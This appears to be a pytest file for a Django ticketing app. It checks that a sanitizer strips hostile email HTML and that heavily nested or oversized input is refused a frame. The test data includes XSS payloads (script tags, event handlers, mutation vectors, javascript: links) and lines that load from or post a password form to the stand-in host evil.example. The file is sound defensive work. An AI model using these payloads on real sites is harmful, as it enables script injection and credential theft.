"""Foreign HTML in its frame: nothing of it runs, asks the network or leads astray; and none of it costs minutes."""

import time

import pytest
from django.http import Http404

from acuerdo.core.mail import can_be_shown
from acuerdo.tickets.models import Message
from acuerdo.tickets.serving import cleaned, framed

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "drawing": "<svg onload=alert(1)><script>alert(1)</script><animate onbegin=alert(1)></svg>",
    "handlers": "<p onclick=alert(1) onmouseover='alert(1)'>x</p><img src=x onerror=alert(1)>",
    "style": "<style>@import url(//evil.example/a.css); a[href^=h]{background:url(//evil.example)}</style>",
    "style of an element": "<p style='background:url(//evil.example);position:fixed;behavior:url(//evil.example)'>x</p>",
    "refresh": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "base and link": "<base href=//evil.example><link rel=stylesheet href=//evil.example/a.css>",
    "form": "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "frames": "<iframe src=//evil.example srcdoc='<script>alert(1)</script>'></iframe><object data=//evil.example></object><embed src=//evil.example>",
    "picture": "<img src=//evil.example/p.gif srcset='//evil.example/2.gif 2x'><img src='cid:unknown'><td background=//evil.example>",
    "data": "<img src='data:image/svg+xml;base64,PHN2Zz4='><a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "addresses": "<a href='javascript:alert(1)'>x</a><a href='jav&#x09;ascript:alert(1)'>y</a><a href='vbscript:x'>z</a>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "end of the page": "</body></html><script>alert(1)</script>",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_of_it_is_left(name):
    left = cleaned(HOSTILE[name], 1, {}).lower()

    for word in (
        "script",
        "evil.example",
        "onerror",
        "onload",
        "onclick",
        "onbegin",
        "srcdoc",
        "data:",
        "position",
        "<form",
        "<input",
        "<meta",
    ):
        assert word not in left.replace("&lt;", "").replace("noscript", ""), left


def test_a_link_leads_to_the_web_and_tells_nobody_where_it_was():
    assert cleaned("<a href='https://a.example' target=_top>x</a>", 1, {}) == '<a href="https://a.example" rel="noopener noreferrer">x</a>'


@pytest.mark.django_db
def test_the_frame_may_do_nothing_even_if_something_were_left(open_case):
    message = open_case(html="<b>Hola</b>").messages.get()

    policy = framed(message, 1)["Content-Security-Policy"]
    assert policy.startswith("sandbox; default-src 'none'; img-src 'self';")
    assert "allow-" not in policy


COSTLY = {
    "depth": "<div>" * 100_000,
    "depth in few letters": "<b><i>" * 60_000,
    "depth behind quotes": "<div title='</div>'>" * 50_000,
    "depth in a comment that is none": "<!-->" + "<div>" * 50_000 + "-->",
    "attributes": "<p " + " ".join(f"a{n}=1" for n in range(50_000)) + ">",
    "attributes behind quotes": "<p title='>' " + "/".join(f"a{n}" for n in range(50_000)) + ">",
    "length": "<p>" + "x" * 2_000_000,
}


@pytest.mark.parametrize("name", COSTLY)
def test_what_would_cost_minutes_has_no_frame(name):
    message = Message(html=f"<b>Hola</b>{COSTLY[name]}")

    assert not message.has_form
    with pytest.raises(Http404):
        framed(message, 1)


@pytest.mark.parametrize(
    "html",
    ["<div>" * 6_000, "<p><div>" * 3_000, "<table><tr><td>" * 2_000, ("<p " + " ".join(f"a{n}=" for n in range(740)) + ">") * 150],
    ids=["depth", "paragraphs", "tables", "attributes"],
)
def test_the_worst_that_has_a_frame_costs_seconds(html):
    assert can_be_shown(html)
    began = time.process_time()

    cleaned(html, 1, {})

    assert time.process_time() - began < 10


def test_a_long_thread_of_letters_has_its_frame():
    paragraph = "<p class=MsoNormal><span lang=ES>Buenos días, sigue igual que ayer y no sabemos por qué.<o:p></o:p></span></p>"

    assert Message(html=f"<html><body>{paragraph * 900}<b>Ana</b></body></html>").has_form
